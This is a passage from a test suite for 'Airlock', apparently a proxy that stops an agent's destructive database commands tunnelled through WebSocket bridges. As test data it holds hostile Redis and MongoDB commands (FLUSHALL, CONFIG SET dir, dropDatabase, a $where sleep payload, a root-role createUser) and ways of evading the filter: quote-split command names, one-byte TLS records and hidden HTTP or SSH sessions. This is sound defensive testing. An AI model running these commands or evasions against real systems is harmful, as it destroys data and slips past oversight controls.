  for (const [how, msgs] of [['a first inline DEL', ['DEL keep\r\n']], ['a SET after the server answered a PING', ['PING\n', 'SET keep 2\n']], ['an APPEND after an answered read', ['GET keep\n', 'append keep 2\n']]] as const) {
    const r = await bridgeSession(bridge, a.proxyUrl, 'sql.example', msgs.map((m) => Buffer.from(m)), 'latin1');
    t.equal(r.code, 1008, `${how}: the tunnel is closed`);
    t.equal(cli('GET', 'keep'), '1', `${how}: the key is unchanged`);
  }
  const read = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [Buffer.from('PING\n'), Buffer.from('GET keep\n')], 'latin1');
  t.not(read.code, 1008, 'reads go on');
  t.ok(read.got.includes('GET keep'), 'the bridge got the read');
});

t.test('twenty-second pass: an inline Redis command is split into words as redis-server splits it, quotes inside a word too', async (t) => {
  // sdssplitargs opens a quoted run at a quote inside a word: `FLUSH"ALL"` is FLUSHALL and
  // `D'EL' k` is DEL to redis-server, while Airlock's reader kept the quotes as letters, so a
  // tunnel's first `FLUSH"ALL"\r\n` was no Redis it knew (relayed undecided) and one after a read a
  // narrow write of a command of that odd name.
  // A quoted run ends the word (redis-server refuses a closing quote followed by anything but a blank).
  const spelled = (word: string, at: number, q: string): string => {
    const i = at % (word.length + 1);
    return `${word.slice(0, i)}${q}${word.slice(i)}${q}`;
  };
  const cases: Array<[string[], RegExp]> = [[['FLUSHALL'], /^DROP SCHEMA/], [['flushdb', 'async'], /^DROP SCHEMA/], [['DEL', 'keep'], /^DELETE FROM redis WHERE key IN \('keep'\)/], [['CONFIG', 'SET', 'dir', '/tmp'], /^COPY redis FROM PROGRAM/], [['SWAPDB', '0', '1'], /^DROP SCHEMA/]];
  const first = (bytes: Buffer): string[] => {
    const from = new RedisStart().feed(bytes);
    return from ? new RedisReader(1 << 20).read(from).statements.map((s) => String(s.body.sql)) : [];
  };
  await fc.assert(
    fc.property(fc.constantFrom(...cases), fc.nat(), fc.nat(), fc.constantFrom('"', "'"), fc.boolean(), ([args, twin], word, at, q, afterRead) => {
      const w = word % args.length;
      const line = args.map((a, i) => (i === w ? spelled(a, at, q) : a)).join(' ');
      const twins = first(Buffer.from(`${afterRead ? 'GET k\r\n' : ''}${line}\r\n`));
      if (twins.length !== 1 || !twin.test(twins[0]!)) throw new Error(`${JSON.stringify(line)}: ${JSON.stringify(twins)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 60), ...seed },
  );
  // Controls: chat with quotes is still no command; a read spelled so is still a read.
  for (const chat of ['flush "all" of it\n', "del'ete that\n", 'set "the" table\n']) t.notOk(startsRedisInline(Buffer.from(chat)), JSON.stringify(chat));
  t.same(first(Buffer.from('G"ET" k\r\nDEL keep\r\n')), ["DELETE FROM redis WHERE key IN ('keep')"], 'a quoted read, then a DEL');
  const missing = missingRedis();
  if (missing) return void t.comment(missing);
  // The splitter against redis-server itself: random inline words (quotes, escapes, blanks) pushed
  // as a list's items, read back; Airlock's reading of the same line has the same arguments.
  const { port, bridge } = await redisBehindBridge(t);
  /** Every answer redis-server gives to `bytes` on a connection of their own, until it closes. */
  const ask = (bytes: Buffer): Promise<Buffer> => new Promise((resolve) => {
    const conn = net.connect(port, '127.0.0.1', () => conn.end(Buffer.concat([bytes, Buffer.from('QUIT\r\n')])));
    const got: Buffer[] = [];
    const timer = setTimeout(() => conn.destroy(), 5000);
    conn.on('data', (d: Buffer) => got.push(d));
    conn.on('error', () => undefined);
    conn.on('close', () => { clearTimeout(timer); resolve(Buffer.concat(got)); });
  });
  /** Where one RESP2 answer ends (an array of bulk strings, or one line), -1 while incomplete. */
  const respEnd = (b: Buffer, at = 0): number => {
    const nl = b.indexOf('\r\n', at);
    if (nl < 0) return -1;
    const n = Number(b.subarray(at + 1, nl).toString('latin1'));
    if (b[at] === 0x24) return n < 0 ? nl + 2 : nl + 2 + n + 2 <= b.length ? nl + 2 + n + 2 : -1;
    if (b[at] !== 0x2a) return nl + 2;
    let pos = nl + 2;
    for (let i = 0; i < n && pos >= 0; i++) pos = respEnd(b, pos);
    return pos;
  };
  /** The items of an array of bulk strings. */
  const items = (b: Buffer): string[] => {
    const out: string[] = [];
    let pos = b.indexOf('\r\n') + 2;
    for (let i = Number(b.subarray(1, pos - 2).toString('latin1')); i > 0; i--) {
      const nl = b.indexOf('\r\n', pos);
      const n = Number(b.subarray(pos + 1, nl).toString('latin1'));
      out.push(b.subarray(nl + 2, nl + 2 + n).toString('latin1'));
      pos = nl + 2 + n + 2;
    }
    return out;
  };
  const piece = fc.constantFrom('a', 'B', ' ', '  ', '\t', '"', "'", '\\', '\\x41', '\\n', 'x"', '"y', "'z'", '\v', '\f');
  const lines = fc.sample(fc.array(piece, { minLength: 1, maxLength: 8 }).map((p) => p.join('')), { numRuns: 60, ...seed });
  for (const words of lines) {
    const line = `RPUSH l ${words}`;
    const got = await ask(Buffer.from(`DEL l\r\n${line}\r\nLRANGE l 0 -1\r\n`));
    const pushedAt = respEnd(got);
    const pushed = got.subarray(pushedAt, respEnd(got, pushedAt));
    const server = pushed[0] === 0x3a ? items(got.subarray(respEnd(got, pushedAt))) : undefined;
    const ours = new RedisReader(1 << 20).read(Buffer.from(`${line}\r\n`));
    const read = ours.refused ? undefined : ((ours.statements[0]?.body.redis as string[] | undefined) ?? ['RPUSH', 'l']).slice(2);
    if (server === undefined) t.ok(ours.refused || read?.length === 0, `${JSON.stringify(line)}: refused by redis-server (${pushed.toString().trim()}), by Airlock too or no items`);
    else t.same(read, server, `${JSON.stringify(line)}: the same items`);
  }
  // Live: the quoted FLUSHALL as a tunnel's first line never reaches the server.
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  await ask(Buffer.from('SET keep 1\r\n'));
  const r = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [Buffer.from('FLUSH"ALL"\r\n')], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed');
  t.equal((await ask(Buffer.from('EXISTS keep\r\n'))).toString('latin1'), ':1\r\n+OK\r\n', 'the key is still there');
});

t.test('twenty-third pass: an English-named inline write on a bare LF before the server has spoken is judged alone, as Redis runs it', async (t) => {
  // Left open by the twenty-second pass: a session's first `set session:admin root\n` (also
  // `append`, `expire k 0`, `rename`, `copy`, `persist`, `move`, `publish`, `sort … STORE`) went on
  // undecided: English-named commands started a Redis reading only on a CRLF (chat begins so too),
  // and the server's `+OK` that made the stream Redis's came after the write had run.
  const writes: string[][] = [['set', 'session:admin', 'root'], ['SET', 'k', 'v', 'EX', '10'], ['append', 'k', 'x'], ['expire', 'k', '0'], ['rename', 'a', 'b'], ['copy', 'a', 'b', 'REPLACE'], ['persist', 'k'], ['move', 'k', '1'], ['publish', 'ch', 'hi'], ['sort', 'l', 'STORE', 'dst'], ['restore', 'k', '0', 'payload']];
  await fc.assert(
    fc.property(fc.constantFrom(...writes), fc.nat(), fc.boolean(), (args, cut, chatBefore) => {
      const bytes = Buffer.from(`${chatBefore ? 'hello there\n' : ''}${args.join(' ')}\n`);
      const start = new RedisStart();
      const at = 1 + (cut % (bytes.length - 1));
      const twins: string[] = [];
      for (const m of [bytes.subarray(0, at), bytes.subarray(at)]) {
        if (start.feed(m, true)) throw new Error(`${JSON.stringify(bytes.toString())}: read as a Redis stream`);
        twins.push(...start.takeEarly().map((a) => String(redisStatement(a)?.body.sql)));
      }
      if (twins.length !== 1 || !/^(UPDATE|COPY)/.test(twins[0]!)) throw new Error(`${JSON.stringify(bytes.toString())}: ${JSON.stringify(twins)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 40), ...seed },
  );
  // Controls: after the upstream has spoken (a chat server greets) such lines are chat; the wrong count is no command.
  const late = new RedisStart();
  t.equal(late.feed(Buffer.from('set the table\n'), false), undefined);
  t.same(late.takeEarly(), [], 'after the server spoke: chat');
  const odd = new RedisStart();
  odd.feed(Buffer.from('append this\nrename it\nmove it\n'), true);
  t.same(odd.takeEarly(), [], 'the wrong number of arguments: no command');
  const missing = missingRedis();
  if (missing) return void t.comment(missing);
  const { port, bridge } = await redisBehindBridge(t);
  const a = await startTestAirlock(t, { policy: writesDenied(t), resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const cli = (...args: string[]): string => execFileSync('redis-cli', ['-p', String(port), ...args]).toString().trim();
  cli('SET', 'keep', '1');
  for (const line of ['set keep 2\n', 'append keep 2\n', 'expire keep 0\n', 'rename keep gone\n']) {
    const r = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [Buffer.from(line)], 'latin1');
    t.equal(r.code, 1008, `${line.trim()}: the tunnel is closed`);
    t.equal(cli('GET', 'keep'), '1', `${line.trim()}: the key is unchanged`);
  }
  const read = await bridgeSession(bridge, a.proxyUrl, 'sql.example', [Buffer.from('get keep\n')], 'latin1');
  t.not(read.code, 1008, 'a read goes on');
  // Behind a bridge that greets first, its banner is no answer: the lines after it are still
  // before the server has spoken, and Redis's `+OK` after them still makes the stream Redis's.
  const greeting = await tcpBridge(t, port, undefined, '{"status":"connected"}');
  const a2 = await startTestAirlock(t, { policy: writesDenied(t), resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${greeting.port}`] });
  /** Waits for the banner, then sends each line after the previous one's answer; the close code. */
  const afterBanner = (lines: string[]): Promise<number> => new Promise((resolve, reject) => {
    const ws = new WebSocket(`ws://sql.example:${greeting.port}/`, [], { agent: new HttpProxyAgent(a2.proxyUrl), perMessageDeflate: false });
    let sent = 0;
    ws.on('message', () => (sent < lines.length ? ws.send(Buffer.from(lines[sent++]!), { binary: true }) : ws.close(1000)));
    ws.on('close', (code) => resolve(code));
    ws.on('error', reject);
    setTimeout(() => ws.terminate(), 8000).unref();
  });
  for (const lines of [['set keep 2\n'], ['get keep\n', 'expire keep 0\n']]) {
    t.equal(await afterBanner(lines), 1008, `after a banner, ${JSON.stringify(lines)}: the tunnel is closed`);
    t.equal(cli('GET', 'keep'), '1', `after a banner, ${JSON.stringify(lines)}: the key is unchanged`);
  }
});

/** The first bytes a real TLS client (Node's, OpenSSL) sends: its ClientHello, as options shape it. */
function clientHello(opts: tls.ConnectionOptions): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const srv = net.createServer((s) => s.once('data', (d: Buffer) => { resolve(d); s.destroy(); srv.close(); }));
    srv.listen(0, '127.0.0.1', () => {
      const c = tls.connect({ ...opts, port: (srv.address() as net.AddressInfo).port, host: '127.0.0.1', rejectUnauthorized: false });
      c.on('error', () => undefined);
    });
    srv.on('error', reject);
  });
}

/** A TLS stream's handshake records cut into records of `size` bytes each (OpenSSL joins them: a ServerHello comes back). */
function fragmented(stream: Buffer, size: number): Buffer {
  const out: Buffer[] = [];
  for (let i = 0; i + 5 <= stream.length;) {
    const len = stream.readUInt16BE(i + 3);
    const body = stream.subarray(i + 5, i + 5 + len);
    if (stream[i] !== 0x16) out.push(stream.subarray(i, i + 5 + len));
    else for (let j = 0; j < body.length; j += size) out.push(Buffer.concat([stream.subarray(i, i + 3), Buffer.from([0, Math.min(size, body.length - j)]), body.subarray(j, j + size)]));
    i += 5 + len;
  }
  return Buffer.concat(out);
}

t.test('twentieth pass: TLS run by the agent inside a WebSocket tunnel is never relayed, wherever its hello starts', async (t) => {
  // A bridge before a service's TLS port (websockify, wstunnel): the agent's own TLS session in the
  // messages, and every command after the hello is ciphertext no reader judges — a raw tunnel.
  const hellos = await Promise.all([
    clientHello({}), clientHello({ servername: 'evil.example', ALPNProtocols: ['h2'] }), clientHello({ servername: 'redis.example', maxVersion: 'TLSv1.2' }),
    clientHello({ minVersion: 'TLSv1.3', ALPNProtocols: ['http/1.1', 'acme-tls/1'] }),
  ]);
  await fc.assert(fc.property(
    fc.constantFrom(...hellos, ...hellos.map((h) => fragmented(h, 1)), ...hellos.map((h) => fragmented(h, 7))), fc.constantFrom(Buffer.alloc(0), Buffer.from('STARTTLS\r\n'), Buffer.from('*1\r\n$4\r\nPING\r\n'), Buffer.from([0x16, 0x03])),
    fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(),
    (hello, before, cuts, text) => {
      // The stream the bridge joins, cut into messages anywhere (the hello itself too).
      const stream = Buffer.concat([before, hello]);
      const points = [...new Set(cuts.map((c) => c % stream.length))].sort((a, b) => a - b);
      const scan = new InnerSessionScan();
      let found = false;
      let at = 0;
      for (const p of [...points, stream.length]) {
        found ||= scan.read(stream.subarray(at, p)) === 'a TLS handshake';
        at = p;
      }
      if (!found) throw new Error(`not seen: ${text} ${stream.subarray(0, 16).toString('hex')} cut at ${points.join(',')}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: random binary messages, a PostgreSQL startup, MySQL's packets, a PNG, Redis and chat are no hello.
  // (A message that is a whole SOCKS 5 greeting, `05 02 00 00` and the like, is one: fast-check's bias toward short arrays of small bytes makes them now and then.)
  const greeting = (u: Uint8Array): boolean => u.length >= 3 && u[0] === 5 && u[1]! > 0 && u.length === 2 + u[1]!;
  fc.assert(fc.property(fc.array(fc.uint8Array({ maxLength: 600 }).filter((u) => !greeting(u)), { maxLength: 6 }), (msgs) => {
    const scan = new InnerSessionScan();
    for (const m of msgs) if (scan.read(Buffer.from(m))) throw new Error(Buffer.from(m).toString('hex'));
  }), { numRuns: numRuns * 8, ...seed });
  const controls = new InnerSessionScan();
  for (const m of [mysqlHandshake(), mysqlCommand(0x03, 'SELECT 1'), Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.from('hello \x16\x03\x01 there')]) t.notOk(controls.read(m), m.subarray(0, 8).toString('hex'));

  // Live: a real redis-server's TLS port behind a bridge; the FLUSHALL inside the agent's TLS never runs.
  const missing = missingRedis();
  if (missing) return void t.comment(missing);
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const dir = tempDir(t, 'airlock-redis-tls-');
  const { certFile } = upstreamCert(dir, ['localhost', '127.0.0.1']);
  const tlsPort = await freePort();
  const redis = await startRedis(t, ['--tls-port', String(tlsPort), '--tls-cert-file', certFile, '--tls-key-file', `${dir}/upstream-key.pem`, '--tls-ca-cert-file', certFile, '--tls-auth-clients', 'no']);
  const port = Number(new URL(redis.url).port);
  const bridge = await startWsUpstream(t, {
    onConnection: (ws) => {
      const s = net.connect(tlsPort, '127.0.0.1');
      s.on('data', (d) => ws.send(d, { binary: true }));
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => s.write(d));
      ws.on('close', () => s.end());
    },
  });
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const cli = (...args: string[]): string => execFileSync('redis-cli', ['-p', String(port), ...args]).toString().trim();
  cli('SET', 'keep', '1');
  const closed = await new Promise<number>((resolve) => {
    const ws = new WebSocket(`ws://sql.example:${bridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => {
      const secure = tls.connect({ socket: createWebSocketStream(ws) as unknown as net.Socket, rejectUnauthorized: false, servername: 'localhost' });
      secure.on('error', () => undefined);
      secure.on('secureConnect', () => secure.write('FLUSHALL\r\n'));
    });
    ws.on('close', (code) => resolve(code));
    ws.on('error', () => resolve(-1));
    setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
  });
  t.equal(closed, 1008, 'the tunnel is closed at the hello');
  t.equal(cli('GET', 'keep'), '1', 'the key is still there: nothing ran inside the agent\'s TLS');
  // The same hello cut into records of one byte each (what DPI evasion tools send; OpenSSL joins them).
  const cut = await new Promise<number>((resolve) => {
    const ws = new WebSocket(`ws://sql.example:${bridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => {
      const raw = createWebSocketStream(ws);
      let first = true;
      const shim = new Duplex({
        write(chunk: Buffer, _enc, cb) {
          raw.write(first ? fragmented(chunk, 1) : chunk, cb);
          first = false;
        },
        read() {},
      });
      raw.on('data', (d: Buffer) => shim.push(d));
      raw.on('error', () => undefined);
      const secure = tls.connect({ socket: shim as unknown as net.Socket, rejectUnauthorized: false, servername: 'localhost' });
      secure.on('error', () => undefined);
      secure.on('secureConnect', () => secure.write('FLUSHALL\r\n'));
    });
    ws.on('close', (code) => resolve(code));
    ws.on('error', () => resolve(-1));
    setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
  });
  t.equal(cut, 1008, 'a hello in one-byte records: the tunnel is closed');
  t.equal(cli('GET', 'keep'), '1', 'a hello in one-byte records: the key is still there');
});

t.test('twentieth pass: an HTTP request or an SSH session the agent opens inside a WebSocket tunnel is never relayed', async (t) => {
  // A bridge before an HTTP server (websockify, wstunnel to port 80): the request in the messages
  // was relayed undecided, a denied path and virtual host included. Spelled as the most lenient
  // server reads a request line (Python's http.server: any blanks), after blank lines or another
  // request, cut across messages anywhere.
  const blanks = fc.constantFrom(' ', '\t', '  ', '\x0b', '\x0c', '\x1f', '\x85', '\xa0', ' \r ');
  await fc.assert(fc.property(
    fc.constantFrom('GET', 'DELETE', 'POST', 'get', 'PROPFIND', 'X'), blanks, blanks, fc.constantFrom('/deny/x', 'http://admin.example/', '*', 'x'),
    fc.constantFrom('', '\r\n', '\n\n', ' ', 'GET /ok HTTP/1.1\r\nHost: allowed.example\r\n\r\n'), fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(),
    (method, b1, b2, target, before, cuts, text) => {
      const stream = Buffer.from(`${before}${method}${b1}${target}${b2}HTTP/1.1\r\nHost: admin.example\r\n\r\n`, 'latin1');
      const { found, points } = scanCut(stream, cuts);
      if (found !== 'an HTTP request') throw new Error(`${text} ${JSON.stringify(stream.toString('latin1'))} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // A line bridge (websocketd) ends each message with a newline of its own: a message start is a line start too.
  const lined = new InnerSessionScan();
  t.equal([lined.read(Buffer.from('a b')), lined.read(Buffer.from('GET /deny HTTP/1.1'))].find(Boolean), 'an HTTP request', 'a request line as the message after one without a newline');
  const sshLined = new InnerSessionScan();
  t.equal([sshLined.read(Buffer.from('x')), sshLined.read(Buffer.from('SSH-2.0-OpenSSH_9.2'))].find(Boolean), 'an SSH session', 'a banner as the message after one without a newline');
  // The ssh client's identification line (OpenSSH, Dropbear's 1.99 form), whole or cut.
  for (const banner of ['SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n', 'SSH-1.99-dropbear_2022.83\r\n']) {
    const scan = new InnerSessionScan();
    t.equal([scan.read(Buffer.from(banner.slice(0, 5))), scan.read(Buffer.from(banner.slice(5)))].find(Boolean), 'an SSH session', banner.trim());
  }
  // Controls: chat, JSON naming HTTP, Redis inline commands, a console's statements, a log line go on.
  const controls = new InnerSessionScan();
  for (const m of ['hello there\n', '{"url": "https://x.example/", "proto": "HTTP/1.1"}', 'GET keep\r\n', 'SET k v\r\n', 'SELECT 1;\n', 'we spoke HTTP today\n', 'I love HTTP/3', 'see HTTP/1.1 spec\n', 'we use http/1.1\n', 'use HTTP/x.1\n', '127.0.0.1 - - "GET / HTTP/1.1" 200\n', 'SSH is fine\n', 'ssh-2.0 notes\n']) {
    t.equal(controls.read(Buffer.from(m)), undefined, m.trim());
  }

  // Live: a bridge before a real HTTP server; the denied request inside never reaches it.
  const got: string[] = [];
  const server = http.createServer((req, res) => { got.push(`${req.method} ${req.headers.host} ${req.url}`); res.end('secret admin page'); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  t.teardown(() => server.close());
  const httpPort = (server.address() as net.AddressInfo).port;
  const bridge = await startWsUpstream(t, {
    onConnection: (ws) => {
      const s = net.connect(httpPort, '127.0.0.1');
      s.on('data', (d) => ws.send(d, { binary: true }));
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => s.write(d));
      ws.on('close', () => s.end());
    },
  });
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const r = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from('DELETE /deny/all HTTP/1.1\r\nHost: admin.example\r\n\r\n')], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed at the request line');
  await new Promise((res) => setTimeout(res, 200));
  t.same(got, [], 'the HTTP server behind the bridge got no request');
  const chat = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from('hello there\n')], 'latin1');
  t.not(chat.code, 1008, 'other bytes go on');
});

/** A BSON document as drivers encode one (int32 for small integers, doubles otherwise, int64 for bigints). */
/** BSON's MinKey and MaxKey (types 0xff and 0x7f) for bson(). */
const MIN_KEY = Symbol('MinKey');
const MAX_KEY = Symbol('MaxKey');
function bson(doc: Record<string, unknown> | unknown[]): Buffer {
  const parts: Buffer[] = [];
  for (const [k, v] of Object.entries(doc)) {
    const name = Buffer.from(`${k}\0`);
    const el = (type: number, body: Buffer): void => void parts.push(Buffer.from([type]), name, body);
    if (typeof v === 'string') {
      const b = Buffer.from(`${v}\0`);
      const n = Buffer.alloc(4);
      n.writeInt32LE(b.length);
      el(0x02, Buffer.concat([n, b]));
    } else if (typeof v === 'number' && Number.isInteger(v) && Math.abs(v) < 2 ** 31) {
      const n = Buffer.alloc(4);
      n.writeInt32LE(v);
      el(0x10, n);
    } else if (typeof v === 'number') {
      const n = Buffer.alloc(8);
      n.writeDoubleLE(v);
      el(0x01, n);
    } else if (typeof v === 'bigint') {
      const n = Buffer.alloc(8);
      n.writeBigInt64LE(v);
      el(0x12, n);
    } else if (typeof v === 'boolean') el(0x08, Buffer.from([v ? 1 : 0]));
    else if (v === null) el(0x0a, Buffer.alloc(0));
    else if (v === MIN_KEY || v === MAX_KEY) el(v === MIN_KEY ? 0xff : 0x7f, Buffer.alloc(0));
    else el(Array.isArray(v) ? 0x04 : 0x03, bson(v as Record<string, unknown>));
  }
  const body = Buffer.concat([...parts, Buffer.from([0])]);
  const len = Buffer.alloc(4);
  len.writeInt32LE(body.length + 4);
  return Buffer.concat([len, body]);
}
const mongoHeader = (length: number, op: number): Buffer => {
  const h = Buffer.alloc(16);
  h.writeInt32LE(length, 0);
  h.writeInt32LE(7, 4);
  h.writeInt32LE(op, 12);
  return h;
};
/** An OP_MSG: the command, its list under `seq` moved to a document sequence (as drivers send `deletes`, `documents`). */
function opMsg(cmd: Record<string, unknown>, seq?: string): Buffer {
  const { [seq ?? '']: docs, ...rest } = cmd;
  const sections = [Buffer.from([0, 0, 0, 0, 0]), bson(seq ? rest : cmd)];
  if (seq) {
    const id = Buffer.from(`${seq}\0`);
    const body = Buffer.concat((docs as Record<string, unknown>[]).map(bson));
    const size = Buffer.alloc(4);
    size.writeInt32LE(4 + id.length + body.length);
    sections.push(Buffer.from([1]), size, id, body);
  }
  const payload = Buffer.concat(sections);
  return Buffer.concat([mongoHeader(16 + payload.length, 2013), payload]);
}
/** A legacy OP_QUERY of a command on `<db>.$cmd` (older servers run any command so). */
function opQuery(cmd: Record<string, unknown>): Buffer {
  const payload = Buffer.concat([Buffer.from([0, 0, 0, 0]), Buffer.from('app.$cmd\0'), Buffer.from([0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff]), bson(cmd)]);
  return Buffer.concat([mongoHeader(16 + payload.length, 2004), payload]);
}
/** A message compressed as OP_COMPRESSED (zlib, or noop). */
function opCompressed(msg: Buffer, zlibbed: boolean): Buffer {
  const inner = msg.subarray(16);
  const packed = zlibbed ? zlib.deflateSync(inner) : inner;
  const head = Buffer.alloc(9);
  head.writeInt32LE(msg.readInt32LE(12), 0);
  head.writeInt32LE(inner.length, 4);
  head[8] = zlibbed ? 2 : 0;
  return Buffer.concat([mongoHeader(16 + 9 + packed.length, 2012), head, packed]);
}
/** One WebSocket message of ~950 OP_COMPRESSED messages, each `max` less a little (what Airlock reads of a statement) of deflated text. */
function mongoInflateBomb(max: number): { one: Buffer; bomb: Buffer; padded: (n: number) => Buffer } {
  const padded = (n: number): Buffer => opMsg({ ping: 1, pad: 'a'.repeat(n), $db: 'admin' });
  const one = opCompressed(padded(max - 400), true);
  return { one, padded, bomb: Buffer.concat(Array<Buffer>(Math.floor(max / one.length)).fill(one)) };
}
const hello = opQuery({ isMaster: 1, helloOk: true, client: { driver: { name: 'nodejs', version: '6.21.0' } } });

t.test('twenty-first pass: MongoDB\'s wire protocol through a bridge is read as the server reads it, each command that may write judged', async (t) => {
  // Left open by the twentieth pass: `{dropDatabase: 1}`, `{delete: "users", deletes: [{q: {}, limit: 0}]}`
  // and a pipeline ending in `$out` through a bridge before port 27017 are no text SQL: relayed undecided.
  const dangerous: Array<[Record<string, unknown>, string | undefined, RegExp]> = [
    [{ dropDatabase: 1, $db: 'app' }, undefined, /^DROP SCHEMA/],
    [{ drop: 'users', $db: 'app' }, undefined, /^DROP TABLE users/],
    [{ delete: 'users', deletes: [{ q: {}, limit: 0 }], ordered: true, $db: 'app' }, 'deletes', /^DELETE FROM users$/],
    [{ delete: 'users', deletes: [{ q: { role: { $ne: 'admin' } }, limit: 0 }], $db: 'app' }, 'deletes', /^DELETE FROM users WHERE \(role <> 'admin' OR role IS NULL\)$/],
    [{ update: 'users', updates: [{ q: {}, u: { $set: { admin: true } }, multi: true }], $db: 'app' }, 'updates', /^UPDATE users SET mongo_data = mongo_data$/],
    [{ aggregate: 'users', pipeline: [{ $match: {} }, { $out: 'sessions' }], cursor: {}, $db: 'app' }, undefined, /^DELETE FROM sessions/],
    [{ aggregate: 'users', pipeline: [{ $merge: { into: 'audit' } }], cursor: {}, $db: 'app' }, undefined, /^DELETE FROM audit/],
    [{ find: 'users', filter: { $where: 'sleep(100000) || true' }, $db: 'app' }, undefined, /^COPY mongo FROM PROGRAM/],
    [{ createUser: 'eve', pwd: 'x', roles: ['root'], $db: 'admin' }, undefined, /^COPY mongo FROM PROGRAM/],
    [{ setParameter: 1, javascriptEnabled: true, $db: 'admin' }, undefined, /^COPY mongo FROM PROGRAM/],
    [{ renameCollection: 'app.a', to: 'app.users', dropTarget: true, $db: 'admin' }, undefined, /^DROP TABLE "app.users"/],
  ];
  const readAll = (msgs: Buffer[]): { twins: string[]; refused?: string } => {
    const reader = new MongoReader(1 << 20);
    const twins: string[] = [];
    for (const m of msgs) {
      const r = reader.read(m);
      twins.push(...r.statements.map((s) => String(s.body.sql)));
      if (r.refused) return { twins, refused: r.refused };
    }
    return { twins };
  };
  await fc.assert(
    fc.property(fc.constantFrom(...dangerous), fc.constantFrom('msg', 'sequence', 'query', 'zlib', 'noop'), fc.nat(), ([cmd, seq, twin], how, cut) => {
      const msg = how === 'query' ? opQuery(cmd) : opMsg(cmd, how === 'msg' ? undefined : seq);
      const sent = how === 'zlib' || how === 'noop' ? opCompressed(msg, how === 'zlib') : msg;
      // The handshake first, the stream cut anywhere (a bridge joins the pieces).
      const bytes = Buffer.concat([hello, sent]);
      const at = 1 + (cut % (bytes.length - 1));
      if (!startsMongo(bytes)) throw new Error('not taken for MongoDB');
      const { twins, refused } = readAll([bytes.subarray(0, at), bytes.subarray(at)]);
      if (refused || twins.length !== 1 || !twin.test(twins[0]!)) throw new Error(`${how} ${JSON.stringify(cmd)}: ${refused ?? JSON.stringify(twins)}`);
    }),
    { numRuns: Math.min(numRuns * 2, 50), ...seed },
  );
  // Reads and the session's own commands go on; narrow writes are narrow; what cannot be read is refused.
  const reads = [hello, opMsg({ hello: 1, $db: 'admin' }), opMsg({ find: 'users', filter: { _id: 1 }, $db: 'app' }), opMsg({ aggregate: 'users', pipeline: [{ $match: { a: 1 } }], cursor: {}, $db: 'app' }), opMsg({ saslStart: 1, mechanism: 'SCRAM-SHA-256', payload: 'x', $db: 'admin' }), opMsg({ endSessions: [{ id: 1 }], $db: 'admin' }), opMsg({ getMore: 5n, collection: 'users', $db: 'app' })];
  t.same(readAll(reads).twins, [], 'reads: nothing judged');
  t.same(readAll([opMsg({ delete: 'users', deletes: [{ q: { _id: 5 }, limit: 1 }], $db: 'app' }, 'deletes'), opMsg({ delete: 'users', deletes: [{ q: { email: 'a@b.c' }, limit: 0 }], $db: 'app' }), opMsg({ insert: 'users', documents: [{ a: 1 }], $db: 'app' }, 'documents')]).twins, ['DELETE FROM users WHERE mongo_one = 1', 'DELETE FROM users WHERE email = \'a@b.c\'', 'INSERT INTO users (mongo_data) VALUES (1)'], 'narrow writes: narrow');
  const dup = Buffer.from(opMsg({ drop: 'users', xrop: 'keep', $db: 'app' }).toString('latin1').replace('xrop', 'drop'), 'latin1');
  t.ok(readAll([dup]).refused, 'a document with a duplicate field: refused');
  const snappy = opCompressed(opMsg({ drop: 'users', $db: 'app' }), false);
  snappy[16 + 8] = 1;
  t.ok(readAll([snappy]).refused, 'a snappy-compressed message: refused');
  const legacyDelete = Buffer.concat([mongoHeader(16 + 4 + 10 + 4 + 5, 2006), Buffer.alloc(4), Buffer.from('app.users\0'), Buffer.alloc(4), bson({})]);
  t.ok(readAll([legacyDelete]).refused, 'a legacy OP_DELETE: refused');
  // Live: the bridge behind Airlock never gets the drop; the handshake and a read before it go on.
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const ok = opMsg({ ok: 1 });
  const bridge = await startWsUpstream(t, { onConnection: (ws) => ws.on('message', () => ws.send(ok, { binary: true })) });
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  for (const [how, last] of [['dropDatabase', opMsg({ dropDatabase: 1, $db: 'app' })], ['delete every user', opMsg({ delete: 'users', deletes: [{ q: {}, limit: 0 }], $db: 'app' }, 'deletes')], ['zlib drop', opCompressed(opMsg({ drop: 'users', $db: 'app' }), true)]] as const) {
